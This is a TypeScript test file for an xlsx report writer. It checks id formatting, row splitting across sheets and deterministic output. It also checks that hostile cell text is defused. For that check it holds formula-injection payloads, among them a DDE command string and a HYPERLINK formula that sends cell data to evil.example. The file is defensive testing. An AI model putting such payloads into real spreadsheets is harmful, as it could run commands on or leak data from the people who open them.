// The xlsx copies' writer against what a spreadsheet reads: ids as text cells in the Text format (all 19
// digits, leading zeros kept), numbers as numbers, no formula however hostile the text, every part well-formed
// XML whatever characters the adversary used, tables past a sheet's rows continued on further sheets, and
// the same bytes for the same table. Each file is read back by unzipping it (test/report/_xlsx.ts).
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { strFromU8, unzipSync } from 'fflate';
import type { RunTable } from '../../src/report/run-tables.js';
import { columnLetters, writeXlsx } from '../../src/report/xlsx.js';
import { readXlsx, sheetTable } from './_xlsx.js';

const work = mkdtempSync(join(tmpdir(), 'lockstep-xlsx-'));
after(() => rmSync(work, { recursive: true, force: true }));

const ID = '1556040000000000001';
const TEXT_FORMAT = 49;

function table(rows: RunTable['rows']): RunTable {
  return {
    columns: [
      { name: 'Id', type: 'string', id: true },
      { name: 'network', type: 'integer' },
      { name: 'name', type: 'string' },
      { name: 'share', type: 'double' },
    ],
    rows,
  };
}

test('ids are text cells in the Text format with every digit; numbers are numbers', async () => {
  const path = join(work, 'ids.xlsx');
  const rows = [
    [ID, 1, 'نان کار آزادی', 0.25],
    ['0070', -5, 'a', 1e-7],
    ['platform:9007199254740993', 2, null, Number.NaN],
    ['x', 3, 12, 0],
  ];
  assert.equal(await writeXlsx(path, table(rows), { sheetName: 'accounts' }), 4);
  const [sheet, ...more] = readXlsx(path);
  assert.ok(sheet);
  assert.equal(more.length, 0);
  assert.equal(sheet.name, 'accounts');
  const { header, rows: cells } = sheetTable(sheet);
  assert.deepEqual(header, ['Id', 'network', 'name', 'share']);
  assert.deepEqual(
    cells.map((r) => r[0]?.text),
    [ID, '0070', 'platform:9007199254740993', 'x'],
  );
  for (const r of cells) {
    assert.equal(r[0]?.type, 'inlineStr', `${r[0]?.text} is a string cell`);
    assert.equal(r[0]?.numFmt, TEXT_FORMAT, `${r[0]?.text} is in the Text format`);
    assert.equal(r[1]?.type, 'n');
  }
  assert.deepEqual(
    cells.map((r) => [Number(r[1]?.text), r[3]?.text]),
    [
      [1, '0.25'],
      [-5, '1e-7'],
      [2, ''],
      [3, '0'],
    ],
  );
  // A number in a text column is text, as the column says.
  assert.deepEqual([cells[3]?.[2]?.type, cells[3]?.[2]?.text], ['inlineStr', '12']);
  assert.equal(cells[0]?.[2]?.text, 'نان کار آزادی');
  assert.equal(cells[2]?.[2]?.type, 'empty', 'null is an empty cell');
  assert.equal(cells[2]?.[3]?.type, 'empty', 'NaN has no spreadsheet form');
});

test('hostile text cells are defused text, never formulas, and every part stays well-formed XML', async () => {
  const path = join(work, 'hostile.xlsx');
  const hostile = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+1+2',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    "'=1",
    // Characters XML 1.0 cannot hold are dropped first, so they cannot hide the `=` behind them.
    '\u0001=1+1',
    '\uD800=1',
    '<f>1+1</f>]]>&amp;',
    ' padded ',
  ];
  await writeXlsx(path, table(hostile.map((h, i) => [h, i, h, i])), { sheetName: 'edges' });
  const [sheet] = readXlsx(path);
  assert.ok(sheet);
  assert.doesNotMatch(sheet.xml, /<f\b/, 'no formula element anywhere');
  const { rows } = sheetTable(sheet);
  const expected = [
    "'=cmd|' /C calc'!A0",
    `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
    "'+1+2",
    "'-2+3",
    "'@SUM(1)",
    "'\t=1",
    "'\r=1",
    "''=1",
    "'=1+1",
    "'=1",
    '<f>1+1</f>]]>&amp;',
    ' padded ',
  ];
  for (const column of [0, 2]) {
    assert.deepEqual(
      rows.map((r) => r[column]?.text),
      expected,
    );
    for (const r of rows) {
      assert.equal(r[column]?.type, 'inlineStr');
      assert.equal(r[column]?.formula, false);
      assert.equal(r[column]?.numFmt, TEXT_FORMAT);
    }
  }
  // Every part parses as XML 1.0: no character outside its Char production survives.
  const files = unzipSync(new Uint8Array(readFileSync(path)));
  for (const [name, bytes] of Object.entries(files))
    assert.doesNotMatch(
      strFromU8(bytes),
      /[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u,
      `${name} holds a character XML cannot`,
    );
});

test('a table past a sheet continues on further sheets, each with the header', async () => {
  const path = join(work, 'split.xlsx');
  const rows = Array.from({ length: 7 }, (_, i) => [`${ID.slice(0, -1)}${i}`, i, `n${i}`, i / 2]);
  await writeXlsx(path, table(rows), { sheetName: 'edges', maxRowsPerSheet: 3 });
  const sheets = readXlsx(path);
  assert.deepEqual(
    sheets.map((s) => s.name),
    ['edges', 'edges 2', 'edges 3'],
  );
  const back = sheets.flatMap((s) => {
    const t = sheetTable(s);
    assert.deepEqual(t.header, ['Id', 'network', 'name', 'share']);
    assert.ok(t.rows.length <= 3);
    return t.rows.map((r) => r[0]?.text);
  });
  assert.deepEqual(
    back,
    rows.map((r) => r[0]),
  );
  // An empty table is a workbook with its header.
  await writeXlsx(join(work, 'empty.xlsx'), table([]), { sheetName: 'edges' });
  const empty = readXlsx(join(work, 'empty.xlsx'));
  assert.equal(empty.length, 1);
  assert.deepEqual(sheetTable(empty[0] as (typeof empty)[0]).header, ['Id', 'network', 'name', 'share']);
});

test('the same table gives the same bytes; a bad row leaves no file behind', async () => {
  const rows = [[ID, 1, 'x', 0.5]];
  await writeXlsx(join(work, 'a.xlsx'), table(rows));
  await writeXlsx(join(work, 'b.xlsx'), table(rows));
  assert.deepEqual(readFileSync(join(work, 'a.xlsx')), readFileSync(join(work, 'b.xlsx')));
  const dir = mkdtempSync(join(work, 'bad-'));
  await assert.rejects(
    writeXlsx(
      join(dir, 'bad.xlsx'),
      table([
        [ID, 1, 'x', 0.5],
        [ID, 2],
      ]),
    ),
    /xlsx row 2 has 2 cells but the header has 4/,
  );
  assert.ok(!existsSync(join(dir, 'bad.xlsx')));
  assert.deepEqual(readdirSync(dir), [], 'the partial file is removed');
  await assert.rejects(writeXlsx(join(dir, 'c.xlsx'), table(rows), { sheetName: 'a/b' }), /sheet name/);
});

test('column letters run A to Z, then AA, as far as XFD', () => {
  assert.deepEqual([0, 1, 25, 26, 27, 51, 52, 701, 702, 16_383].map(columnLetters), [
    'A',
    'B',
    'Z',
    'AA',
    'AB',
    'AZ',
    'BA',
    'ZZ',
    'AAA',
    'XFD',
  ]);
});
